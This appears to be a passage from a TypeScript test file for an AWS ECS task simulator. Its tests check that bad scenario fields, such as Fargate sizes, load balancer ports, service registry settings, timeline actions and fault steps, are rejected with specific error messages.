// Bad scenario fields: each gives one line naming the field, the problem and what was given.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createSimulation } from '../../../src/sim/simulation.ts';
import { loadScenario, parseScenario } from '../../../src/sim/scenario/load.ts';
import { fittingFargateSize } from '../../../src/sim/scenario/fargate-size.ts';
import { misspelt } from '../../../src/sim/scenario/typos.ts';
import { fargate, lb, rejection, textRejection } from './helpers.ts';
import { realTaskDefinitions, repoRoot, TG_ARN } from '../../support/scenarios.ts';

const withTd = (rest: object) => ({ taskDefinition: fargate(), ...rest });

describe('scenario errors', () => {
  it('should refuse what runtimePlatform rules out: Fargate Spot for ARM64 or Windows, and ARM64 Windows', () => {
    const arm = (rest: object) => ({ taskDefinition: { ...fargate(), runtimePlatform: { cpuArchitecture: 'ARM64' } }, ...rest });
    expect(rejection(arm({ capacityProviderStrategy: [{ capacityProvider: 'FARGATE_SPOT', weight: 1 }] })).message).toBe(
      'capacityProviderStrategy: Fargate Spot runs only Linux X86_64 tasks, and taskDefinition.runtimePlatform asks for ARM64: use FARGATE',
    );
    // a Spot notice alone says it was Spot: refused with the notice
    expect(rejection(arm({ timeline: [{ at: 60, action: 'SpotInterruption' }] })).message).toBe(
      'timeline[0].action: SpotInterruption is for Fargate Spot tasks, and Fargate Spot runs only Linux X86_64 tasks: this one is ARM64 (runtimePlatform)',
    );
    const windows = { ...fargate(), runtimePlatform: { operatingSystemFamily: 'WINDOWS_SERVER_2022_CORE', cpuArchitecture: 'ARM64' } };
    expect(rejection({ taskDefinition: windows }).message).toBe(
      'taskDefinition.runtimePlatform.cpuArchitecture: must be X86_64 for Windows containers (operatingSystemFamily WINDOWS_SERVER_2022_CORE), got ARM64',
    );
    // the family's spelling is AWS's
    expect(rejection({ taskDefinition: { ...fargate(), runtimePlatform: { operatingSystemFamily: 'Linux' } } }).message).toBe(
      'taskDefinition.runtimePlatform.operatingSystemFamily: must be LINUX or a Windows Server family such as WINDOWS_SERVER_2022_CORE, got "Linux"',
    );
    // on-demand Fargate runs ARM64; a Windows task runs, said to be shown as Linux
    expect(loadScenario(arm({})).taskDefinition.runtimePlatform).toEqual({ cpuArchitecture: 'ARM64', operatingSystemFamily: 'LINUX' });
    expect(loadScenario({ taskDefinition: { ...fargate(), runtimePlatform: { operatingSystemFamily: 'WINDOWS_SERVER_2019_FULL' } } }).warnings).toEqual([
      'taskDefinition.runtimePlatform.operatingSystemFamily WINDOWS_SERVER_2019_FULL: Windows tasks are not modelled; this one runs, and is shown, as a Linux task',
    ]);
  });

  it('should refuse a target group or registry ARN that is not one, and warn about one in another Region', () => {
    expect(rejection(withTd({ loadBalancers: [{ ...lb(), targetGroupArn: 'not-an-arn' }] })).message).toBe(
      'loadBalancers[0].targetGroupArn: must be a target group ARN such as arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/73e2d6bc24d8a067, got "not-an-arn"',
    );
    // a Cloud Map namespace is not a Cloud Map service
    expect(rejection(withTd({ serviceRegistries: [{ registryArn: 'arn:aws:servicediscovery:us-east-1:123456789012:namespace/ns-0123456789abcdef' }] })).message).toMatch(
      /^serviceRegistries\[0\]\.registryArn: must be a Cloud Map service ARN such as arn:aws:servicediscovery:us-east-1:123456789012:service\/srv-0123456789abcdef, got "arn:aws:servicediscovery/,
    );
    const elsewhere = withTd({ loadBalancers: [{ ...lb(), targetGroupArn: lb().targetGroupArn.replace('us-east-1', 'eu-west-1') }] });
    expect(loadScenario(elsewhere).warnings).toEqual([
      "loadBalancers[0].targetGroupArn is in eu-west-1, but the task runs in us-east-1: ECS uses only its own Region's target groups and Cloud Map services (give settings.region to run in eu-west-1).",
    ]);
    expect(loadScenario({ ...elsewhere, settings: { region: 'eu-west-1' } }).warnings).toBeUndefined();
  });

  it('should take a load balancer name beside a target group, with a warning that the target group is what runs (a name alone is refused)', () => {
    const named = withTd({ service: { serviceName: 'web', desiredCount: 1, loadBalancers: [{ ...lb(), loadBalancerName: 'web-alb' }] } });
    expect(loadScenario(named).warnings).toEqual([
      'service.loadBalancers[0].loadBalancerName is ignored: with a targetGroupArn (an Application or Network Load Balancer) AWS asks to leave the name out; the target group is what the task registers with.',
    ]);
    expect(loadScenario(named).loadBalancers.map((l) => l.targetGroupArn)).toEqual([lb().targetGroupArn]);
  });

  it('should refuse a load balancer entry that repeats another (one target group, container and port), and take the same group on another port', () => {
    const twice = rejection(withTd({ loadBalancers: [lb(), lb('web', 'api'), lb()] }));
    expect(twice.message).toBe('loadBalancers[2]: the same target group, container and port as loadBalancers[0]: a task is one target there, not two (remove the repeat)');
    // another port of the same container in the same group is another target (an admin port, say)
    const [web, sidecar] = fargate().containerDefinitions;
    const td = { ...fargate(), containerDefinitions: [{ ...web!, portMappings: [{ containerPort: 80 }, { containerPort: 8080 }] }, sidecar!] };
    const ports = loadScenario({ taskDefinition: td, loadBalancers: [lb(), { ...lb(), containerPort: 8080 }] });
    expect(ports.loadBalancers.map((l) => l.containerPort)).toEqual([80, 8080]);
  });

  it('should warn of a target group ARN whose name AWS would not take (1 to 32 ASCII letters, numbers and hyphens, no hyphen first or last), and run it: the page once made such names', () => {
    const named = (name: string) => withTd({ loadBalancers: [{ ...lb(), targetGroupArn: lb().targetGroupArn.replace('/web/', `/${name}/`) }] });
    const rule = "which AWS would not create: a target group's name is 1 to 32 ASCII letters, numbers and hyphens, not beginning or ending with a hyphen (the run uses it as given).";
    for (const name of ['wéb', '-web', 'web-', 'my_app-1', 'a'.repeat(33)]) expect(loadScenario(named(name)).warnings).toEqual([`loadBalancers[0].targetGroupArn names target group "${name}", ${rule}`]);
    for (const name of ['a'.repeat(32), 'web-2', 'W3b']) expect(loadScenario(named(name)).warnings).toBeUndefined();
  });

  it('should reject six target groups naming loadBalancers', () => {
    const error = rejection(withTd({ loadBalancers: [lb(), lb(), lb(), lb(), lb(), lb()] }));
    expect(error.field).toBe('loadBalancers');
    expect(error.message).toBe('loadBalancers: at most 5 target groups, got 6');
  });

  it('should reject a load balancer naming a container that does not exist', () => {
    const error = rejection(withTd({ loadBalancers: [lb('api')] }));
    expect(error.field).toBe('loadBalancers[0].containerName');
    expect(error.problem).toBe('no container named "api" in the task definition (containers: web, sidecar)');
  });

  it('should say which container a near miss most likely means: names are case-sensitive', () => {
    expect(rejection(withTd({ loadBalancers: [lb('Web')] })).problem).toBe('no container named "Web" in the task definition (containers: web, sidecar): did you mean "web"?');
    expect(rejection(withTd({ faults: [{ step: 'RunContainer', container: 'sidecra' }] })).message).toBe(
      'faults[0].container: no container named "sidecra" in the task definition (containers: web, sidecar): did you mean "sidecar"?',
    );
    // two names within reach: no guess
    const workers = { ...fargate(), containerDefinitions: ['worker1', 'worker2'].map((name) => ({ name, image: 'nginx', essential: name === 'worker1' })) };
    expect(rejection({ taskDefinition: workers, faults: [{ step: 'RunContainer', container: 'worker3' }] }).message).toBe(
      'faults[0].container: no container named "worker3" in the task definition (containers: worker1, worker2)',
    );
    const td = withTd({}).taskDefinition as { containerDefinitions: Record<string, unknown>[] };
    const dependsOn = { ...td, containerDefinitions: [{ ...td.containerDefinitions[0], dependsOn: [{ containerName: 'SIDECAR', condition: 'START' }] }, td.containerDefinitions[1]] };
    expect(rejection({ taskDefinition: dependsOn }).message).toMatch(/dependsOn\[0\]\.containerName: no container named "SIDECAR" in the task definition \(containers: web, sidecar\): did you mean "sidecar"\?$/);
  });

  it('should reject a load balancer on a port the container does not map, like ECS', () => {
    const error = rejection(withTd({ loadBalancers: [{ ...lb(), containerPort: 8080 }] }));
    expect(error.message).toBe('loadBalancers[0].containerPort: container web does not map port 8080 (its portMappings have containerPort 80): a load balancer needs a mapped containerPort');
  });

  it('should say a load balancer port inside a containerPortRange is mapped only in the range (LoadBalancer wants a containerPort), not that there are no portMappings', () => {
    const ranged = (...portMappings: object[]) => ({ ...fargate(), containerDefinitions: [{ name: 'web', image: 'nginx', portMappings }] });
    expect(rejection({ taskDefinition: ranged({ containerPortRange: '8000-8010' }), loadBalancers: [{ ...lb(), containerPort: 8005 }] }).message).toBe(
      'loadBalancers[0].containerPort: container web maps port 8005 only within containerPortRange "8000-8010" (portMappings[0]), not as a containerPort: a load balancer needs a mapped containerPort',
    );
    // outside every range, what the container maps is listed, ranges too
    expect(rejection({ taskDefinition: ranged({ containerPortRange: '8000-8010' }, { containerPort: 9000 }), loadBalancers: [{ ...lb(), containerPort: 7000 }] }).message).toBe(
      'loadBalancers[0].containerPort: container web does not map port 7000 (its portMappings have containerPort 9000 and containerPortRange "8000-8010"): a load balancer needs a mapped containerPort',
    );
    expect(() => loadScenario({ taskDefinition: ranged({ containerPortRange: '8000-8010' }, { containerPort: 9000 }), loadBalancers: [{ ...lb(), containerPort: 9000 }] })).not.toThrow();
  });

  it('should reject a container port out of range naming the entry', () => {
    const error = rejection(withTd({ loadBalancers: [lb(), { ...lb(), containerPort: 70000 }] }));
    expect(error.message).toBe('loadBalancers[1].containerPort: must be an integer from 1 to 65535, got 70000');
  });

  it('should reject loadBalancers given as an object', () => {
    const error = rejection(withTd({ loadBalancers: {} }));
    expect(error.field).toBe('loadBalancers');
    expect(error.problem).toMatch(/^must be an array .*, got an object$/);
  });

  it('should reject an empty targetGroupArn', () => {
    expect(rejection(withTd({ loadBalancers: [{ ...lb(), targetGroupArn: '' }] })).message).toBe(
      'loadBalancers[0].targetGroupArn: must be a non-empty string, got ""',
    );
  });

  it('should reject two service registries', () => {
    const registry = { registryArn: 'arn:aws:servicediscovery:us-east-1:123456789012:service/srv-1' };
    const error = rejection(withTd({ serviceRegistries: [registry, registry] }));
    expect(error.field).toBe('serviceRegistries');
    expect(error.problem).toBe('at most 1 service registry (ECS allows one per service), got 2');
  });

  it('should reject an unknown launch type', () => {
    expect(rejection(withTd({ launchType: 'LAMBDA' })).message).toBe(
      'launchType: unknown launch type "LAMBDA" (expected FARGATE, EC2 or EXTERNAL)',
    );
  });

  it('should reject FARGATE with a bridge task definition naming launchType', () => {
    const error = rejection({ taskDefinition: { containerDefinitions: [{ name: 'web', image: 'nginx' }], networkMode: 'bridge' }, launchType: 'FARGATE' });
    expect(error.message).toBe('launchType: FARGATE requires networkMode awsvpc, got bridge');
  });

  it('should say networkMode is missing when FARGATE meets the bridge default', () => {
    const error = rejection({ taskDefinition: { containerDefinitions: [{ name: 'web', image: 'nginx' }] }, launchType: 'FARGATE' });
    expect(error.field).toBe('launchType');
    expect(error.problem).toContain('got bridge (the EC2 default: taskDefinition.networkMode is missing)');
  });

  it('should reject a launch type the task definition does not support', () => {
    expect(rejection(withTd({ launchType: 'EC2' })).message).toBe('launchType: EC2 is not in taskDefinition.requiresCompatibilities (FARGATE)');
    // EC2 the user never wrote: a provider of theirs, taken as an Auto Scaling group's
    expect(rejection(withTd({ capacityProviderStrategy: [{ capacityProvider: 'my-asg', weight: 1 }] })).message).toBe(
      'capacityProviderStrategy: EC2 (a capacity provider other than FARGATE and FARGATE_SPOT is an EC2 Auto Scaling group’s) is not in taskDefinition.requiresCompatibilities (FARGATE)',
    );
  });

  it('should reject a stopTimeout over 120 s on Fargate', () => {
    const td = fargate();
    const error = rejection({ taskDefinition: { ...td, containerDefinitions: [{ name: 'web', image: 'x' }, { name: 's', image: 'y', stopTimeout: 121 }] } });
    expect(error.message).toBe('taskDefinition.containerDefinitions[1].stopTimeout: must be from 2 to 120 seconds on Fargate, got 121');
  });

  it('should reject a Fargate task without cpu, or with a size Fargate does not have, saying which would do', () => {
    const { cpu: _cpu, ...noCpu } = fargate();
    expect(rejection({ taskDefinition: noCpu }).message).toMatch(/^taskDefinition\.cpu: required on Fargate: the task's CPU units \(256, 512, 1024/);
    // neither: both named at once, not memory only once cpu is fixed
    const { cpu: _c, memory: _m, ...noSize } = fargate();
    expect(rejection({ taskDefinition: noSize }).message).toMatch(/^taskDefinition\.cpu: required on Fargate, and memory with it: a task size such as cpu "256" with memory "512"/);
    expect(rejection({ taskDefinition: { ...fargate(), cpu: '300' } }).message).toMatch(/^taskDefinition\.cpu: must be one of Fargate's sizes .*got "300"$/);
    // no amount at all is wrong on any launch type: named with the other wrong fields, not after them
    expect(rejection({ seed: 'x', taskDefinition: { ...fargate(), cpu: 'lots', memory: 'lots' } }).lines()).toEqual([
      'taskDefinition.cpu: must be CPU units as a number ("256") or vCPU ("1 vCPU"), got "lots"',
      'taskDefinition.memory: must be MiB as a number ("2048") or GB ("2 GB"), got "lots"',
      'seed: must be an integer from 0 to 4294967295, got "x"',
    ]);
    // a number too: -256 is no amount, named with the rest
    expect(rejection({ seed: 'x', taskDefinition: { ...fargate(), cpu: -256 } }).lines()).toEqual([
      'taskDefinition.cpu: must be CPU units as a number ("256") or vCPU ("1 vCPU"), got -256',
      'seed: must be an integer from 0 to 4294967295, got "x"',
    ]);
    expect(rejection({ taskDefinition: { ...fargate(), cpu: '256', memory: '8192' } }).message).toBe(
      'taskDefinition.memory: with cpu 256 Fargate allows 512, 1024 or 2048 MiB (or "2 GB" style), got "8192"',
    );
    expect(rejection({ taskDefinition: { ...fargate(), cpu: '256', memory: '1536' } }).field).toBe('taskDefinition.memory');
    // a size it allows, in a unit the API does not read: the unit is named, not the range
    expect(rejection({ taskDefinition: { ...fargate(), cpu: '1 vCPU', memory: '2 GiB' } }).message).toBe('taskDefinition.memory: must be MiB as a number ("2048") or GB ("2 GB"), got "2 GiB"');
  });

  it('should reject containers that ask for more than the Fargate task has', () => {
    const big = { ...fargate(), cpu: '256', memory: '512', containerDefinitions: [{ name: 'web', image: 'x', memory: 400 }, { name: 's', image: 'y', memoryReservation: 200 }] };
    expect(rejection({ taskDefinition: big }).message).toBe("taskDefinition.memory: the containers reserve 600 MiB in all, more than the task's 512");
    const cpu = { ...fargate(), cpu: '256', memory: '512', containerDefinitions: [{ name: 'web', image: 'x', cpu: 512 }] };
    expect(rejection({ taskDefinition: cpu }).message).toBe("taskDefinition.cpu: the containers ask for 512 CPU units in all, more than the task's 256");
  });

  it('should find the smallest Fargate size that holds given cpu and memory', () => {
    expect(fittingFargateSize(0, 0)).toEqual({ cpu: '256', memory: '512' });
    expect(fittingFargateSize(1024, 4096)).toEqual({ cpu: '1024', memory: '4096' });
    expect(fittingFargateSize(256, 3000)).toEqual({ cpu: '512', memory: '3072' });
  });

  it('should accept Fargate sizes written the ways AWS accepts them', () => {
    for (const [cpu, memory] of [['1 vCPU', '2 GB'], ['.25 vCPU', '512'], ['4096', '30720'], [1024, 3072]])
      expect(() => loadScenario({ taskDefinition: { ...fargate(), cpu, memory } })).not.toThrow();
  });

  it('should reject a stopTimeout under 2 s on Fargate', () => {
    const error = rejection({ taskDefinition: { ...fargate(), containerDefinitions: [{ name: 'web', image: 'x', stopTimeout: 1 }] } });
    expect(error.message).toBe('taskDefinition.containerDefinitions[0].stopTimeout: must be from 2 to 120 seconds on Fargate, got 1');
  });

  it('should reject a wrong seed type with expected and got', () => {
    expect(rejection(withTd({ seed: 'x' })).message).toBe('seed: must be an integer from 0 to 4294967295, got "x"');
  });

  it('should reject a seed the 32-bit random source would wrap onto another (negative, or 2^32 and up)', () => {
    expect(rejection(withTd({ seed: -1 })).message).toBe('seed: must be an integer from 0 to 4294967295, got -1');
    expect(rejection(withTd({ seed: 2 ** 32 })).message).toBe('seed: must be an integer from 0 to 4294967295, got 4294967296');
  });

  it('should reject a startTime that is not a date', () => {
    const error = rejection(withTd({ startTime: 'yesterday' }));
    expect(error.field).toBe('startTime');
    expect(error.problem).toBe('must be an ISO-8601 date-time with a zone, such as "2026-01-01T00:00:00Z", or a date alone (midnight UTC), got "yesterday"');
    // as the message says: a date alone is midnight UTC, whatever the machine's zone
    expect(loadScenario(withTd({ startTime: '2026-03-04' })).startTime).toBe(Date.UTC(2026, 2, 4));
  });

  it('should reject an impossible date, saying which part does not exist (its form is right), and a time without a zone', () => {
    expect(rejection(withTd({ startTime: '2026-02-30T00:00:00Z' }))).toMatchObject({ field: 'startTime', message: 'startTime: is not a real date: 2026-02 has no day 30, got "2026-02-30T00:00:00Z"' });
    expect(rejection(withTd({ startTime: '2026-13-01' })).message).toBe('startTime: is not a real date: there is no month 13, got "2026-13-01"');
    expect(loadScenario(withTd({ startTime: '2024-02-29' })).startTime).toBe(Date.UTC(2024, 1, 29));
    expect(rejection(withTd({ startTime: '2026-01-01T00:00:00' })).message).toMatch(/^startTime: must be an ISO-8601 date-time with a zone/);
  });

  it('should reject settings out of range naming the setting', () => {
    expect(rejection(withTd({ settings: { deregistrationDelaySeconds: 3601 } })).message).toBe(
      'settings.deregistrationDelaySeconds: must be an integer from 0 to 3600 seconds, got 3601',
    );
    expect(rejection(withTd({ settings: { healthyThresholdCount: 1 } })).field).toBe('settings.healthyThresholdCount');
    expect(rejection(withTd({ settings: { account: 'me' } })).message).toBe('settings.account: must be a 12-digit account ID, got "me"');
  });
});

describe('ECS Anywhere', () => {
  const external = (extra: object) => ({
    taskDefinition: { family: 'app', requiresCompatibilities: ['EXTERNAL'], containerDefinitions: [{ name: 'app', image: 'busybox', memory: 128, portMappings: [{ containerPort: 80 }] }] },
    ...extra,
  });

  it('should refuse load balancers and service discovery, which external instances do not support', () => {
    expect(rejection(external({ loadBalancers: [lb('app')] })).message).toBe('loadBalancers: not on EXTERNAL (ECS Anywhere): its instances take no load balancer targets from ECS');
    expect(rejection(external({ serviceRegistries: [{ registryArn: 'arn:aws:servicediscovery:us-east-1:123456789012:service/srv-1' }] })).message).toBe(
      'serviceRegistries: not on EXTERNAL (ECS Anywhere): ECS does not register its tasks in Cloud Map',
    );
  });
});

describe('network mode none', () => {
  const none = (container: object, extra: object = {}) => ({
    taskDefinition: { family: 'app', networkMode: 'none', requiresCompatibilities: ['EC2'], containerDefinitions: [{ name: 'app', image: 'busybox', memory: 128, ...container }] },
    ...extra,
  });

  it('should refuse port mappings, a load balancer and a Cloud Map registry for a task with no network, and run one without them', () => {
    expect(rejection(none({ portMappings: [{ containerPort: 80 }] })).message).toBe(
      'taskDefinition.containerDefinitions[0].portMappings: must be empty with networkMode none: its containers have no network, and RegisterTaskDefinition refuses port mappings there',
    );
    // a load balancer then names a port the container cannot map
    expect(rejection(none({}, { loadBalancers: [lb('app')] })).message).toMatch(/^loadBalancers\[0\]\.containerPort: container app does not map port 80/);
    expect(rejection(none({}, { serviceRegistries: [{ registryArn: 'arn:aws:servicediscovery:us-east-1:123456789012:service/srv-1' }] })).message).toBe(
      'serviceRegistries: must be empty with networkMode none (taskDefinition.networkMode): a task with no network has no address or port to register in Cloud Map',
    );
    // describe-task-definition prints an empty list: that is no port
    const ran = createSimulation(loadScenario(none({ portMappings: [] }, { timeline: [{ at: 600, action: 'StopTask' }] })));
    ran.runUntil(3_600_000);
    expect(ran.view()).toMatchObject({ lastStatus: 'STOPPED', stopCode: 'UserInitiated' });
  });
});

describe('service registry ports (API Reference, ServiceRegistry)', () => {
  const SRV = 'arn:aws:servicediscovery:us-east-1:123456789012:service/srv-1';
  const onEc2 = (networkMode: string, registry: object, extra: object = {}) => ({
    taskDefinition: {
      family: 'app',
      networkMode,
      requiresCompatibilities: ['EC2'],
      containerDefinitions: [{ name: 'app', image: 'nginx', memory: 128, portMappings: [{ containerPort: 80 }] }, { name: 'log', image: 'fluent-bit', memory: 64, essential: false }],
    },
    serviceRegistries: [{ registryArn: SRV, ...registry }],
    ...extra,
  });

  it('should require containerName and containerPort for a bridge or host task, and run one that gives them', () => {
    for (const mode of ['bridge', 'host'])
      expect(rejection(onEc2(mode, {})).message).toBe(
        `serviceRegistries[0].containerName: required with networkMode ${mode} (taskDefinition.networkMode), as is containerPort: Cloud Map registers the host port a container's port is mapped to`,
      );
    // bridge by default: the message says where it came from
    const bare = onEc2('bridge', {});
    delete (bare.taskDefinition as { networkMode?: string }).networkMode;
    expect(rejection(bare).message).toBe(
      "serviceRegistries[0].containerName: required with networkMode bridge (the EC2 default: taskDefinition.networkMode is missing), as is containerPort: Cloud Map registers the host port a container's port is mapped to",
    );
    // null is not given, as SDK dumps write it
    expect(loadScenario(onEc2('bridge', { containerName: 'app', containerPort: 80, port: null })).serviceRegistries[0]).toMatchObject({ containerName: 'app', containerPort: 80 });
    const ran = createSimulation(loadScenario(onEc2('bridge', { containerName: 'app', containerPort: 80 }, { timeline: [{ at: 600, action: 'StopTask' }] })));
    ran.runUntil(3_600_000);
    expect(ran.view()).toMatchObject({ lastStatus: 'STOPPED', stopCode: 'UserInitiated' });
  });

  it('should take an awsvpc registry with neither (an A record), a port, or a container and its port, but not a port and a container', () => {
    for (const given of [{}, { port: 8080 }, { containerName: 'web', containerPort: 80 }])
      expect(loadScenario(withTd({ serviceRegistries: [{ registryArn: SRV, ...given }] })).serviceRegistries).toEqual([{ registryArn: SRV, ...given }]);
    expect(rejection(withTd({ serviceRegistries: [{ registryArn: SRV, port: 8080, containerName: 'web', containerPort: 80 }] })).message).toBe(
      'serviceRegistries[0].port: give either port or containerName and containerPort, not both',
    );
    expect(rejection(onEc2('bridge', { port: 8080 })).message).toBe(
      'serviceRegistries[0].port: is for awsvpc tasks only, and this one is bridge (taskDefinition.networkMode): give containerName and containerPort instead',
    );
  });

  it('should refuse half a pair, a container that is not there, and a port it does not map', () => {
    expect(rejection(onEc2('bridge', { containerName: 'app' })).message).toBe(
      'serviceRegistries[0].containerPort: required with containerName: they name a container and the port it maps, together',
    );
    expect(rejection(withTd({ serviceRegistries: [{ registryArn: SRV, containerPort: 80 }] })).message).toBe(
      'serviceRegistries[0].containerName: required with containerPort: they name a container and the port it maps, together',
    );
    expect(rejection(onEc2('host', { containerName: 'api', containerPort: 80 })).message).toBe(
      'serviceRegistries[0].containerName: no container named "api" in the task definition (containers: app, log)',
    );
    expect(rejection(onEc2('bridge', { containerName: 'log', containerPort: 80 })).message).toBe(
      'serviceRegistries[0].containerPort: container log does not map port 80 (it has no portMappings): service discovery needs a port from the task definition',
    );
    expect(rejection(onEc2('bridge', { containerName: 'app', containerPort: 0 })).message).toBe('serviceRegistries[0].containerPort: must be an integer from 1 to 65535, got 0');
  });

  it('should say a port inside a containerPortRange is mapped only in the range, not that the container has no portMappings', () => {
    const registered = onEc2('bridge', { containerName: 'app', containerPort: 8001 });
    const ranged = { ...registered, taskDefinition: { ...registered.taskDefinition, containerDefinitions: [{ name: 'app', image: 'nginx', memory: 128, portMappings: [{ containerPortRange: '8000-8010' }] }] } };
    expect(rejection(ranged).message).toBe(
      'serviceRegistries[0].containerPort: container app maps port 8001 only within containerPortRange "8000-8010" (portMappings[0]), not as a containerPort: service discovery needs a port mapped as a containerPort',
    );
  });
});

describe('timeline errors', () => {
  it('should reject a StopTask reason longer than StopTask takes', () => {
    expect(rejection({ taskDefinition: fargate(), timeline: [{ at: 1, action: 'StopTask', reason: 'x'.repeat(256) }] }).message).toBe(
      "timeline[0].reason: must be at most 255 characters (StopTask's limit), got 256",
    );
  });

  it('should reject a negative time naming the entry', () => {
    const timeline = [{ at: 1, action: 'StopTask' }, { at: 2, action: 'StopTask' }, { at: -5, action: 'StopTask' }];
    expect(rejection(withTd({ timeline })).message).toBe('timeline[2].at: must be a number of seconds ≥ 0, got -5');
  });

  it('should reject a time given as a string', () => {
    expect(rejection(withTd({ timeline: [{ at: '600', action: 'StopTask' }] })).message).toBe(
      'timeline[0].at: must be a number of seconds ≥ 0, got "600"',
    );
  });

  it('should reject a time that is not finite', () => {
    expect(rejection(withTd({ timeline: [{ at: Number.POSITIVE_INFINITY, action: 'StopTask' }] })).field).toBe('timeline[0].at');
  });

  it('should reject an unknown action listing the known ones', () => {
    expect(rejection(withTd({ timeline: [{ at: 5, action: 'Reboot' }] })).message).toBe(
      'timeline[0].action: unknown action "Reboot" (expected StopTask, ContainerExit, SpotInterruption, HealthChecksFail or UpdateService)',
    );
  });

  it('should say an action that is not a word is of the wrong type, not an unknown action', () => {
    const actions = 'StopTask, ContainerExit, SpotInterruption, HealthChecksFail or UpdateService';
    expect(rejection(withTd({ timeline: [{ at: 5, action: [] }] })).message).toBe(`timeline[0].action: must be one of ${actions}, got an empty array`);
    expect(rejection(withTd({ timeline: [{ at: 5, action: null }] })).message).toBe(`timeline[0].action: must be one of ${actions}, got null`);
    expect(rejection(withTd({ faults: [{ step: 7 }] })).message).toMatch(/^faults\[0\]\.step: must be one of PlaceTask, .* or HealthCheck, got 7$/);
  });

  it('should name the action or fault meant by a word in the wrong case or misspelt', () => {
    expect(rejection(withTd({ timeline: [{ at: 5, action: 'stoptask' }] })).message).toBe(
      'timeline[0].action: unknown action "stoptask": did you mean StopTask? (expected StopTask, ContainerExit, SpotInterruption, HealthChecksFail or UpdateService)',
    );
    expect(rejection(withTd({ faults: [{ step: 'pullImage', container: 'web' }] })).message).toMatch(/^faults\[0\]\.step: unknown fault "pullImage": did you mean PullImage\? \(expected PlaceTask, /);
    // a launch type, like any fixed word
    expect(rejection(withTd({ launchType: 'fargate' })).message).toBe('launchType: unknown launch type "fargate": did you mean FARGATE? (expected FARGATE, EC2 or EXTERNAL)');
    // the commonest slip of all, with what to write instead
    expect(rejection(withTd({ launchType: 'FARGATE_SPOT' })).message).toBe(
      'launchType: FARGATE_SPOT is a capacity provider, not a launch type: give "capacityProviderStrategy": [{ "capacityProvider": "FARGATE_SPOT", "weight": 1 }] instead of launchType (expected FARGATE, EC2 or EXTERNAL)',
    );
  });

  it('should say a fault step given as a timeline action is a fault step, and the other way round, rather than suggest a near word of another meaning', () => {
    expect(rejection(withTd({ timeline: [{ at: 5, action: 'HealthCheck' }] })).message).toBe(
      'timeline[0].action: HealthCheck is a fault step (give it in "faults": [{ "step": … }]), not an action (expected StopTask, ContainerExit, SpotInterruption, HealthChecksFail or UpdateService)',
    );
    expect(rejection(withTd({ faults: [{ step: 'StopTask' }] })).message).toMatch(/^faults\[0\]\.step: StopTask is a timeline action \(give it in "timeline": \[\{ "at": …, "action": … \}\]\), not a fault \(expected PlaceTask, /);
  });

  it('should reject an entry without an action', () => {
    expect(rejection(withTd({ timeline: [{ at: 5 }] })).message).toBe(
      'timeline[0].action: required (expected StopTask, ContainerExit, SpotInterruption, HealthChecksFail or UpdateService)',
    );
  });

  it('should reject a ContainerExit for a container that does not exist, by its place in the file', () => {
    const timeline = [{ at: 900, action: 'StopTask' }, { at: 10, action: 'ContainerExit', container: 'db' }];
    const error = rejection(withTd({ timeline }));
    expect(error.field).toBe('timeline[1].container');
    expect(error.problem).toBe('no container named "db" in the task definition (containers: web, sidecar)');
  });

  it('should reject a ContainerExit without a container', () => {
    expect(rejection(withTd({ timeline: [{ at: 10, action: 'ContainerExit' }] })).field).toBe('timeline[0].container');
  });

  it('should reject a fractional exit code', () => {
    expect(rejection(withTd({ timeline: [{ at: 10, action: 'ContainerExit', container: 'web', exitCode: 1.5 }] })).message).toBe(
      'timeline[0].exitCode: must be an integer from 0 to 255, got 1.5',
    );
  });

  it('should reject a StopTask reason that is not a string', () => {
    expect(rejection(withTd({ timeline: [{ at: 10, action: 'StopTask', reason: 42 }] })).message).toBe(
      'timeline[0].reason: must be a string, got 42',
    );
  });
});

describe('fault errors', () => {
  it('should reject an unknown fault listing the known ones', () => {
    expect(rejection(withTd({ faults: [{ step: 'Foo' }] })).message).toBe(
      'faults[0].step: unknown fault "Foo" (expected PlaceTask, RetrieveSecrets, PullImage, AttachEni, ReleaseEni, RegisterTargets, RegisterInstance, RunContainer, StopContainer or HealthCheck)',
    );
  });

  it('should reject a PlaceTask fault on Fargate, saying why', () => {
    const error = rejection(withTd({ faults: [{ step: 'PlaceTask' }] }));
    expect(error.field).toBe('faults[0].step');
    // the launch type came from the definition: the message says so
    expect(error.problem).toMatch(/^PlaceTask needs an Auto Scaling group capacity provider .*got launchType FARGATE \(the default for this task definition\)/);
    // with a launch type, even EC2, RunTask fails at once instead of waiting
    const ec2 = rejection({ taskDefinition: { family: 'x', containerDefinitions: [{ name: 'a', image: 'a', memory: 128 }] }, launchType: 'EC2', faults: [{ step: 'PlaceTask' }] });
    expect(ec2.problem).toMatch(/got launchType EC2: otherwise RunTask fails at once/);
  });

  it('should reject a negative or fractional capacityAfterSeconds', () => {
    const ec2 = { taskDefinition: { family: 'x', containerDefinitions: [{ name: 'a', image: 'a', memory: 128 }] } };
    expect(rejection({ ...ec2, faults: [{ step: 'PlaceTask', capacityAfterSeconds: -5 }] }).message).toBe(
      'faults[0].capacityAfterSeconds: must be an integer from 1 to 86400 seconds, got -5',
    );
    expect(rejection({ ...ec2, faults: [{ step: 'PlaceTask', capacityAfterSeconds: '4m' }] }).field).toBe('faults[0].capacityAfterSeconds');
  });

  it('should reject a PullImage fault for a container that does not exist', () => {
    expect(rejection(withTd({ faults: [{ step: 'PullImage', container: 'db' }] })).field).toBe('faults[0].container');
  });

  it('should reject an AttachEni fault without awsvpc', () => {
    const error = rejection({ containerDefinitions: [{ name: 'web', image: 'nginx', memory: 128 }], faults: [{ step: 'AttachEni' }] });
    expect(error.message).toBe('faults[0].step: AttachEni needs networkMode awsvpc, got bridge (no ENI to attach)');
  });

  it("should run where a cluster given by its ARN is, unless the settings say otherwise, and then say so", () => {
    const cluster = 'arn:aws:ecs:eu-west-1:999999999999:cluster/prod';
    expect(loadScenario(withTd({ settings: { cluster } })).settings).toMatchObject({ cluster: 'prod', region: 'eu-west-1', account: '999999999999' });
    const told = loadScenario(withTd({ settings: { cluster, region: 'us-west-2', account: '123456789012' } }));
    expect(told.settings).toMatchObject({ region: 'us-west-2', account: '123456789012' });
    // describe-task-definition output registered elsewhere than the cluster: the cluster's place, said
    const described = { taskDefinition: { ...fargate(), taskDefinitionArn: 'arn:aws:ecs:us-east-1:123456789012:task-definition/web:3' }, settings: { cluster } };
    expect(loadScenario(described).settings).toMatchObject({ region: 'eu-west-1', account: '999999999999' });
